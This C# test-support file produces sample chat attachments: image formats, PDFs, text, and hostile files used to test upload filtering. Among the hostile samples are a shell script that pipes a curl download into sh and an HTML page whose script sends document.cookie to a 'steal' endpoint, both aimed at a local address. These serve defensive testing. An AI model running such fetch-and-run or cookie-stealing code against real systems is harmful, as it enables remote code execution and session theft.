using System.Globalization;
using System.Text;
using NetVips;

namespace AbParts.Tests.Support;

/// <summary>
/// What users attach to chat messages: a real photograph in every image format the service accepts (made
/// once per run with NetVips from one of <see cref="Wallpapers"/>), PDFs that show a photograph, plain text,
/// and hostile files (this process's own executables, a script, markup).
/// </summary>
public static class SampleFiles
{
    private static readonly Lazy<Image> Photo = new(() =>
    {
        using var thumbnail = Image.Thumbnail(Wallpapers.AutumnJpeg, 640);
        return thumbnail.CopyMemory(); // decoded once, so every format below is saved from the same pixels
    });
    private static readonly Lazy<byte[]> SmallJpegBytes = new(() => Photo.Value.JpegsaveBuffer(q: 85));
    private static readonly Lazy<byte[]> GifBytes = new(() => Photo.Value.WriteToBuffer(".gif"));
    private static readonly Lazy<byte[]> WebpBytes = new(() => Photo.Value.WriteToBuffer(".webp"));
    private static readonly Lazy<byte[]> TiffBytes = new(() => Photo.Value.WriteToBuffer(".tif[compression=deflate]"));
    private static readonly Lazy<byte[]> AvifBytes = new(() => Photo.Value.WriteToBuffer(".avif"));
    private static readonly Lazy<byte[]> SmallPdfBytes = new(() => PdfShowing(SmallJpegBytes.Value));
    private static readonly Lazy<byte[]> LargePdfBytes = new(() => PdfShowing(SampleImages.LargeJpeg));

    /// <summary>A 640x400 JPEG photograph, well under <c>Images:MaxBytes</c>.</summary>
    public static byte[] SmallJpeg => SmallJpegBytes.Value;

    public static byte[] Gif => GifBytes.Value;

    public static byte[] Webp => WebpBytes.Value;

    public static byte[] Tiff => TiffBytes.Value;

    public static byte[] Avif => AvifBytes.Value;

    /// <summary>A one-page PDF showing the 640x400 photograph: tens of kilobytes.</summary>
    public static byte[] SmallPdf => SmallPdfBytes.Value;

    /// <summary>A one-page PDF showing the 5120x2880 photograph: about 4 MB.</summary>
    public static byte[] LargePdf => LargePdfBytes.Value;

    /// <summary>UTF-8 notes with umlauts, a degree sign and an emoji.</summary>
    public static byte[] Notes { get; } = Encoding.UTF8.GetBytes(
        "Wartungsprotokoll Brecher 7\nÖlpumpe geprüft, Größe 3, Öltemperatur 61 °C.\nNächste Prüfung in 500 h ✅\n");

    /// <summary>ASCII text of exactly <paramref name="length"/> bytes, numbered lines like a log.</summary>
    public static byte[] Text(int length)
    {
        var text = new StringBuilder(length + 64);
        for (var line = 1; text.Length < length; line++)
        {
            text.Append(CultureInfo.InvariantCulture, $"{line:D6} pressure 4.2 bar, temperature 61 C, all well\n");
        }

        return Encoding.ASCII.GetBytes(text.ToString(0, length));
    }

    /// <summary>This process's own executable: a real ELF file.</summary>
    public static byte[] Elf => Expect(File.ReadAllBytes(Environment.ProcessPath!), "\x7f" + "ELF", "an ELF executable");

    /// <summary>A compiled .NET assembly: a real Windows PE file.</summary>
    public static byte[] PortableExecutable => Expect(File.ReadAllBytes(typeof(SampleFiles).Assembly.Location), "MZ", "a PE file");

    public static byte[] ShellScript { get; } = Encoding.UTF8.GetBytes(
        "#!/bin/sh\n# Looks like notes, runs as a program.\ncurl -s http://127.0.0.1:9/payload | sh\n");

    public static byte[] Html { get; } = Encoding.UTF8.GetBytes(
        "<!DOCTYPE html>\n<html><body><script>fetch('http://127.0.0.1:9/steal?c=' + document.cookie)</script></body></html>\n");

    /// <summary>The same page after a UTF-8 byte order mark and blank lines.</summary>
    public static byte[] HtmlAfterBom { get; } = [0xEF, 0xBB, 0xBF, .. "\n\n  "u8, .. Html];

    /// <summary>
    /// A valid one-page PDF 1.4 whose page shows <paramref name="jpeg"/> (embedded as is, DCTDecode), with a
    /// correct cross-reference table, so any PDF reader opens it.
    /// </summary>
    public static byte[] PdfShowing(byte[] jpeg)
    {
        using var image = Image.NewFromBuffer(jpeg);
        var colourSpace = image.Bands switch { 1 => "/DeviceGray", 4 => "/DeviceCMYK", _ => "/DeviceRGB" };
        var pageHeight = 842 * image.Height / image.Width;
        var drawing = Encoding.ASCII.GetBytes($"q 842 0 0 {pageHeight} 0 0 cm /Im0 Do Q\n");
        using var pdf = new MemoryStream();
        var offsets = new List<long>();
        void Write(string text) => pdf.Write(Encoding.ASCII.GetBytes(text));
        void Object(string dictionary, byte[]? stream = null)
        {
            offsets.Add(pdf.Position);
            Write($"{offsets.Count} 0 obj\n{dictionary}\n");
            if (stream is not null)
            {
                Write("stream\n");
                pdf.Write(stream);
                Write("\nendstream\n");
            }

            Write("endobj\n");
        }

        Write("%PDF-1.4\n");
        pdf.Write([(byte)'%', 0xE2, 0xE3, 0xCF, 0xD3, (byte)'\n']); // marks the file as binary
        Object("<< /Type /Catalog /Pages 2 0 R >>");
        Object("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
        Object($"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 842 {pageHeight}] /Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R >>");
        Object($"<< /Type /XObject /Subtype /Image /Width {image.Width} /Height {image.Height} /ColorSpace {colourSpace} " +
               $"/BitsPerComponent 8 /Filter /DCTDecode /Length {jpeg.Length} >>", jpeg);
        Object($"<< /Length {drawing.Length} >>", drawing);
        var xref = pdf.Position;
        Write($"xref\n0 {offsets.Count + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets)
        {
            Write($"{offset:D10} 00000 n \n");
        }

        Write($"trailer\n<< /Size {offsets.Count + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return pdf.ToArray();
    }

    private static byte[] Expect(byte[] bytes, string magic, string what) =>
        bytes.AsSpan().StartsWith(Encoding.Latin1.GetBytes(magic))
            ? bytes
            : throw new InvalidOperationException($"The sample is meant to be {what} but does not start with its magic bytes.");
}
